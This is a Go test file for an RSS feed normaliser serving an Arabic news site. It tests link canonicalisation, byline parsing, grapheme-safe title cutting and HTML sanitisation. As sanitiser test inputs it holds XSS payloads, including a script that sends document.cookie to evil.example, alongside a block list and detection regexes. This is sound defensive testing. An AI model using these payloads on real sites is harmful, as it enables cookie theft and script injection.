package feeds

import (
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/mmcdole/gofeed"
	ext "github.com/mmcdole/gofeed/extensions"
	"github.com/rivo/uniseg"
	"golang.org/x/net/html"

	"github.com/almaalouma/nashra/arabic"
	"github.com/almaalouma/nashra/config"
)

var siteBase, _ = url.Parse("https://almaalouma.net/category/news/feed/")

func TestCanonicalLink(t *testing.T) {
	tests := []struct{ in, want string }{
		{"https://almaalouma.net/2025/02/20/x/", "https://almaalouma.net/2025/02/20/x/"},
		{"/2025/02/20/x/", "https://almaalouma.net/2025/02/20/x/"},
		{"x/", "https://almaalouma.net/category/news/feed/x/"},
		{"  HTTPS://AlMaalouma.NET:443/a?b=1#respond ", "https://almaalouma.net/a?b=1"},
		{"http://almaalouma.net:80", "http://almaalouma.net/"},
		{"http://almaalouma.net:8080/a", "http://almaalouma.net:8080/a"},
		{"https://almaalouma.net/a?utm_source=rss&p=5&utm_medium=rss&fbclid=abc&gclid=x&amp=1", "https://almaalouma.net/a?p=5&amp=1"},
		{"https://almaalouma.net/a?UTM_Campaign=x", "https://almaalouma.net/a"},
		{"https://almaalouma.net/a?", "https://almaalouma.net/a"},
		// The site's Arabic slugs, raw or encoded in either case, are one link.
		{"https://almaalouma.net/نائب-يطالب/", "https://almaalouma.net/%D9%86%D8%A7%D8%A6%D8%A8-%D9%8A%D8%B7%D8%A7%D9%84%D8%A8/"},
		{"https://almaalouma.net/%d9%86%d8%a7%d8%a6%d8%a8-%d9%8a%d8%b7%d8%a7%d9%84%d8%a8/", "https://almaalouma.net/%D9%86%D8%A7%D8%A6%D8%A8-%D9%8A%D8%B7%D8%A7%D9%84%D8%A8/"},
		{"javascript:alert(1)", ""},
		{"mailto:a@b.c", ""},
		{"data:text/html,x", ""},
		{"https://user:pw@almaalouma.net/", ""},
		{"", ""},
		{"https://almaalouma.net/" + strings.Repeat("a", 3000), ""},
		{"http://[::1]:80/x", "http://[::1]/x"},
	}
	for _, tt := range tests {
		if got := canonicalLink(tt.in, siteBase); got != tt.want {
			t.Errorf("canonicalLink(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestTitleCutOnGraphemes: a title too long for the store is cut between
// grapheme clusters, never inside an emoji sequence or a flag.
func TestTitleCutOnGraphemes(t *testing.T) {
	const family = "👨\u200d👩\u200d👧\u200d👦"
	n := normalizer{}
	for name, tt := range map[string]struct{ title, want string }{
		"ZWJ sequence": {strings.Repeat("x", maxTitle-5) + family + family, strings.Repeat("x", maxTitle-5) + "…"},
		"flag":         {strings.Repeat("x", maxTitle-4) + "🇮🇶🇮🇶🇮🇶", strings.Repeat("x", maxTitle-4) + "🇮🇶…"},
		"fits":         {strings.Repeat("x", maxTitle-7) + family, strings.Repeat("x", maxTitle-7) + family},
	} {
		it := &gofeed.Item{Title: tt.title, Link: "https://almaalouma.net/?p=1"}
		a, _, err := n.normalize(it, siteBase, t0)
		if err != nil {
			t.Fatal(err)
		}
		if a.Title != tt.want {
			t.Errorf("%s: title ends %q, want %q", name, tail(a.Title, 12), tail(tt.want, 12))
		}
	}
}

// tail returns the last n runes of s.
func tail(s string, n int) string {
	r := []rune(s)
	return string(r[max(0, len(r)-n):])
}

func TestByline(t *testing.T) {
	tests := []struct{ line, want string }{
		{"كتب / كاظم الطائي ||", "كاظم الطائي"},
		{"كتب / كاظم الطائي || في ظل التغيرات السياسية المتسارعة", "كاظم الطائي"},
		{"كتب/ د. علي حسين||", "د. علي حسين"},
		{"بقلم: عادل الشرار", "عادل الشرار"},
		{"بقلم : محمد عبد الجبار الشبوط", "محمد عبد الجبار الشبوط"},
		{"كتبت - زينب العبودي", "زينب العبودي"},
		{"كتب: عادل الشرار", "عادل الشرار"},
		{"كتب سعد الزبيدي ||", "سعد الزبيدي"},
		// Sentences, not bylines.
		{"كتب الرئيس رسالة إلى البرلمان", ""},
		{"كتب: في ظل التغيرات السياسية المتسارعة، يبدو أن العلاقات بين الولايات المتحدة وروسيا تتجه نحو التفاهم", ""},
		{"كتب / واحد اثنان ثلاثة أربعة خمسة ستة سبعة ||", ""},
		{"المعلومة/ بغداد..", ""},
		{"", ""},
	}
	for _, tt := range tests {
		if got := byline(tt.line); got != tt.want {
			t.Errorf("byline(%q) = %q, want %q", tt.line, got, tt.want)
		}
	}
	if got := stripByline("كتب / كاظم الطائي || في ظل التغيرات", "كاظم الطائي"); got != "في ظل التغيرات" {
		t.Errorf("stripByline: %q", got)
	}
	if got := stripByline("كتب الرئيس رسالة", "كاظم الطائي"); got != "كتب الرئيس رسالة" {
		t.Errorf("stripByline of another name: %q", got)
	}
}

func TestSummary(t *testing.T) {
	tests := []struct{ author, excerpt, body, want string }{
		{"", "نص المقتطف [&#8230;]", "", "نص المقتطف…"},
		{"", "نص المقتطف. [...]", "", "نص المقتطف."},
		{"", "نص المقتطف. The post عنوان المقال appeared first on المعلومة.", "", "نص المقتطف."},
		{"", "نص المقتطف. ظهرت المقالة عنوان المقال أولاً على المعلومة.", "", "نص المقتطف."},
		{"كاظم الطائي", "كتب / كاظم الطائي || نص المقال", "", "نص المقال"},
		{"", "", "<p>من المتن</p>", "من المتن"},
		{"", "[…]", "من المتن", "من المتن"},
	}
	for _, tt := range tests {
		excerpt := scanHTML(tt.excerpt, nil, false).text
		body := scanHTML(tt.body, nil, false).text
		if got := summary(tt.author, excerpt, body); got != tt.want {
			t.Errorf("summary(%q, %q) = %q, want %q", tt.excerpt, tt.body, got, tt.want)
		}
	}
}

func TestLeadImage(t *testing.T) {
	up := "https://almaalouma.net/wp-content/uploads/2025/02/"
	media := func(name string, attrs ...string) ext.Extension {
		e := ext.Extension{Name: name, Attrs: map[string]string{}}
		for i := 0; i+1 < len(attrs); i += 2 {
			e.Attrs[attrs[i]] = attrs[i+1]
		}
		return e
	}
	tests := []struct {
		name    string
		item    gofeed.Item
		content string
		want    string
	}{
		{"largest media:content", gofeed.Item{Extensions: ext.Extensions{"media": {
			"content": {media("content", "url", up+"a-300x200.jpg", "medium", "image", "width", "300"),
				media("content", "url", up+"a.jpg", "medium", "image", "width", "1200"),
				media("content", "url", up+"a.mp4", "medium", "video", "width", "1920")},
		}}}, "", up + "a.jpg"},
		{"media:group", gofeed.Item{Extensions: ext.Extensions{"media": {
			"group": {{Children: map[string][]ext.Extension{"content": {media("content", "url", up+"g.jpg", "type", "image/jpeg")}}}},
		}}}, "", up + "g.jpg"},
		{"full-size content image beats a thumbnail", gofeed.Item{Extensions: ext.Extensions{"media": {
			"thumbnail": {media("thumbnail", "url", up+"t-150x150.jpg")},
		}}}, `<img src="` + up + `full.jpg">`, up + "full.jpg"},
		{"enclosure", gofeed.Item{Enclosures: []*gofeed.Enclosure{{URL: up + "doc.pdf", Type: "application/pdf"},
			{URL: up + "e.jpg", Type: "image/jpeg"}}}, "", up + "e.jpg"},
		{"relative content image", gofeed.Item{}, `<img src="/wp-content/uploads/2025/02/r.png">`, up + "r.png"},
		{"YouTube thumbnail beats a WordPress thumbnail", gofeed.Item{},
			`<img src="` + up + `v-150x150.jpg"><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>`,
			"https://i.ytimg.com/vi/dQw4w9WgXcQ/hqdefault.jpg"},
		{"only a thumbnail", gofeed.Item{}, `<img src="` + up + `only-300x200.webp">`, up + "only-300x200.webp"},
		{"no data: images", gofeed.Item{}, `<img src="data:image/png;base64,AAAA">`, ""},
		{"nothing", gofeed.Item{}, "<p>نص</p>", ""},
	}
	for _, tt := range tests {
		sc := scanHTML(tt.content, siteBase, false)
		if got := leadImage(&tt.item, sc, scanned{}, siteBase); got != tt.want {
			t.Errorf("%s: %q, want %q", tt.name, got, tt.want)
		}
	}
}

func TestYouTubeID(t *testing.T) {
	for in, want := range map[string]string{
		"https://www.youtube.com/embed/dQw4w9WgXcQ?feature=oembed": "dQw4w9WgXcQ",
		"//www.youtube.com/embed/dQw4w9WgXcQ":                      "dQw4w9WgXcQ",
		"https://youtu.be/dQw4w9WgXcQ":                             "dQw4w9WgXcQ",
		"https://m.youtube.com/watch?v=dQw4w9WgXcQ":                "dQw4w9WgXcQ",
		"https://www.youtube.com/shorts/dQw4w9WgXcQ":               "dQw4w9WgXcQ",
		"https://evil.example/embed/dQw4w9WgXcQ":                   "",
		"https://www.youtube.com/embed/short":                      "",
		"https://www.youtube.com/embed/dQw4w9WgXcQ\"><script>":     "",
	} {
		if got := youtubeID(in, nil); got != want {
			t.Errorf("youtubeID(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestNoIdentity(t *testing.T) {
	n := normalizer{}
	if _, _, err := n.normalize(&gofeed.Item{Title: "بلا رابط", Link: "javascript:void(0)"}, nil, t0); err == nil {
		t.Error("an item without guid or link was accepted")
	}
	a, _, err := n.normalize(&gofeed.Item{Link: "https://almaalouma.net/x/", Description: "<p>نص بلا عنوان</p>"}, nil, t0)
	if err != nil || a.GUID != a.Link || a.Title != "نص بلا عنوان" {
		t.Errorf("%+v, %v", a, err)
	}
}

func TestDates(t *testing.T) {
	pub, upd := t0.Add(-time.Hour), t0.Add(-time.Minute)
	future := t0.Add(24 * time.Hour)
	tests := []struct {
		name                string
		published, updated  *time.Time
		wantPub, wantUpdate time.Time
		dated               bool
	}{
		{"both", &pub, &upd, pub, upd, true},
		{"published only", &pub, nil, pub, pub, true},
		{"updated only", nil, &upd, upd, upd, true},
		{"neither", nil, nil, t0, t0, false},
		{"future", &future, nil, t0, t0, true},
	}
	for _, tt := range tests {
		p, u, d := dates(&gofeed.Item{PublishedParsed: tt.published, UpdatedParsed: tt.updated}, t0)
		if !p.Equal(tt.wantPub) || !u.Equal(tt.wantUpdate) || d != tt.dated {
			t.Errorf("%s: %s %s %v", tt.name, p, u, d)
		}
	}
}

// TestHostileContent: whatever an item carries, nothing executable is
// stored, and the text is bounded and readable.
func TestHostileContent(t *testing.T) {
	hostileTitle := "\u202eعنوان\u200f مُشَكَّلٌ <script>alert(1)</script>" + strings.Repeat("طويل جدا ", 700)
	content := `<p onclick="steal()">كتب / كاظم الطائي ||</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="x" onerror="alert(1)"><img src="javascript:alert(1)"><img/src="x"/onerror=alert(1)>
<a href="javascript:alert(1)">رابط</a><a href=" JaVaScRiPt:alert(1)">رابط</a><a href="vbscript:x">v</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>
<iframe src="https://evil.example/"></iframe><iframe src="javascript:alert(1)"></iframe>
<svg onload="alert(1)"><script>alert(1)</script></svg><math><mi xlink:href="javascript:alert(1)">x</mi></math>
<style>body{background:url("javascript:alert(1)")}</style><form action="https://evil.example"><input autofocus onfocus="alert(1)"></form>
<object data="x.swf"></object><embed src="x.swf"><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<p style="background:url(javascript:alert(1))">نص</p><noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>
<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload="alert(1)"></iframe>`
	feed := rss(item{guid: "hostile-1", title: hostileTitle, link: "https://almaalouma.net/hostile/", published: t0,
		content: content, categories: []string{"<b>مقالات</b>", "\u200fمقالات"}})

	s := newSite(t)
	s.serve("/feed", "application/rss+xml", feed)
	db := newStore(t)
	addFeeds(t, db, "articles", s.URL+"/feed")
	p, _ := newTestPoller(t, db, testConfig())
	if r := pollOne(t, p); r.Err != nil || r.Items != 1 {
		t.Fatalf("%+v", r)
	}
	a := articles(t, db)[0]
	assertSafeHTML(t, a.Content)
	for _, bad := range []string{"<script", "onerror", "onclick", "onload", "onfocus", "javascript:", "vbscript:",
		"data:text", "<iframe", "<style", "<form", "<object", "<embed", "<base", "<meta", "evil.example"} {
		if strings.Contains(strings.ToLower(a.Content), bad) {
			t.Errorf("content keeps %q: %s", bad, a.Content)
		}
	}
	if !strings.Contains(a.Content, `href="https://www.youtube.com/watch?v=dQw4w9WgXcQ"`) {
		t.Errorf("the YouTube embed was lost: %s", a.Content)
	}
	if n := utf8.RuneCountInString(a.Title); n > maxTitle || !strings.HasPrefix(a.Title, "عنوان مُشَكَّلٌ طويل") ||
		strings.ContainsAny(a.Title, "\u202e\u200f<>") || !strings.HasSuffix(a.Title, "…") {
		t.Errorf("title (%d runes) %q", n, a.Title)
	}
	if a.Author != "كاظم الطائي" || strings.Join(a.Categories, "|") != "مقالات" {
		t.Errorf("author %q categories %q", a.Author, a.Categories)
	}
	// The summary is plain text: "<" may be a character, but no markup or
	// script text survives.
	if strings.Contains(a.Summary, "<script") || strings.Contains(a.Summary, "alert(") ||
		!strings.HasPrefix(a.Summary, "رابط") || utf8.RuneCountInString(a.Summary) > maxSummary {
		t.Errorf("summary %q", a.Summary)
	}
}

// executable matches what could run in a browser: event attributes and
// script URLs.
var (
	eventAttr = regexp.MustCompile(`^on`)
	scriptURL = regexp.MustCompile(`(?i)^\s*(javascript|vbscript|data):`)
)

// assertSafeHTML parses s as a browser would and fails on any element,
// attribute or URL that can run code.
func assertSafeHTML(t testing.TB, s string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(s))
	if err != nil {
		t.Fatalf("content does not parse: %v", err)
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			switch n.Data {
			case "script", "iframe", "object", "embed", "style", "form", "base", "meta", "svg", "math", "link":
				t.Fatalf("content has <%s>: %s", n.Data, s)
			}
			for _, a := range n.Attr {
				if eventAttr.MatchString(strings.ToLower(a.Key)) || a.Key == "style" || scriptURL.MatchString(a.Val) {
					t.Fatalf("content has %s=%q: %s", a.Key, a.Val, s)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
}

func FuzzNormalize(f *testing.F) {
	f.Add("عنوان", "ملخص", "<p>كتب / كاظم الطائي ||</p><p>نص</p>", "https://almaalouma.net/a/?utm_source=x", "guid-1")
	f.Add("\u202e"+strings.Repeat("x", 600), "<script>alert(1)</script>", `<img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>`, "/rel", "")
	f.Add("<b>&amp;quot;</b>", "[&#8230;]", `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe><iframe/src=x>`, "javascript:x", "g")
	f.Add("\xff\xfe", "\x00", "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>", "http://[::1", "\xc0")
	f.Add("", "", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, "", "https://almaalouma.net/?p=1")
	f.Add("a", "b", `<a href="&#106;avascript:alert(1)">x</a><img srcset="javascript:x 1w, https://a/b.jpg 2w">`, "//x.example/p", "x")
	// Long titles ending in an emoji ZWJ sequence, flags, a keycap; the
	// references an item may carry once the feed is legal XML.
	f.Add(strings.Repeat("x", 495)+strings.Repeat("👨\u200d👩\u200d👧\u200d👦", 3), "", "", "https://almaalouma.net/?p=2", "")
	f.Add(strings.Repeat("ب", 496)+strings.Repeat("🇮🇶", 3), strings.Repeat("#\ufe0f\u20e3", 400), "", "/p3", "")
	f.Add("خبر&#8;عاجل &amp;#0; &#xFFFE;", "&#11;\u200d", "<p>\ufffd</p>", "/p4", "g4")
	n := normalizer{generic: normalizedSet(config.Defaults().Poll.GenericAuthors)}
	f.Fuzz(func(t *testing.T, title, desc, content, link, guid string) {
		it := &gofeed.Item{Title: title, Description: desc, Content: content, Link: link, GUID: guid,
			Categories: []string{title, desc}, Authors: []*gofeed.Person{{Name: title}}}
		a, _, err := n.normalize(it, siteBase, t0)
		if err != nil {
			return
		}
		for name, s := range map[string]string{"title": a.Title, "summary": a.Summary, "content": a.Content,
			"link": a.Link, "guid": a.GUID, "image": a.ImageURL, "author": a.Author} {
			if !utf8.ValidString(s) {
				t.Fatalf("%s is not UTF-8: %q", name, s)
			}
		}
		for _, c := range a.Categories {
			if !utf8.ValidString(c) || utf8.RuneCountInString(c) > maxCategory {
				t.Fatalf("category %q", c)
			}
		}
		if utf8.RuneCountInString(a.Title) > maxTitle || utf8.RuneCountInString(a.Summary) > maxSummary ||
			utf8.RuneCountInString(a.Author) > maxAuthor || utf8.RuneCountInString(a.GUID) > maxGUID && a.GUID != a.Link ||
			len(a.Link) > maxURLBytes || len(a.Categories) > maxCategories {
			t.Fatalf("unbounded: %+v", a)
		}
		if a.Link == "" || a.GUID == "" || strings.ContainsAny(a.Title+a.Summary, "\u202e\u200f\x00") {
			t.Fatalf("bad article %+v", a)
		}
		if a.ImageURL != "" && !strings.HasPrefix(a.ImageURL, "http") {
			t.Fatalf("image %q", a.ImageURL)
		}
		// A cut title ends between two grapheme clusters of the whole one.
		if whole := arabic.CleanLine(scanHTML(title, nil, false).text); a.Title != whole && whole != "" {
			head, ok := strings.CutSuffix(a.Title, "…")
			if !ok || !strings.HasPrefix(whole, head) || !onBoundary(whole, len(head)) {
				t.Fatalf("title %q cut badly from %q", a.Title, whole)
			}
		}
		assertSafeHTML(t, a.Content)
	})
}

// onBoundary reports whether byte offset i of s falls between two grapheme
// clusters.
func onBoundary(s string, i int) bool {
	at := 0
	for g := uniseg.NewGraphemes(s); at < i && g.Next(); {
		_, at = g.Positions()
	}
	return at == i
}

// A feed written with Windows line ends (WordPress on some hosts) keeps
// its text as written: no letter doubled, no stray byte.
func TestContentWithCRLF(t *testing.T) {
	n := normalizer{}
	it := &gofeed.Item{Title: "عنوان", Link: "https://almaalouma.net/?p=1",
		Content: "<p>انقطاع\r\nالكهرباء &amp; الماء\r\n</p>"}
	a, _, err := n.normalize(it, siteBase, t0)
	if err != nil {
		t.Fatal(err)
	}
	if want := "<p>انقطاع\nالكهرباء &amp; الماء\n</p>"; a.Content != want {
		t.Errorf("content %q, want %q", a.Content, want)
	}
}
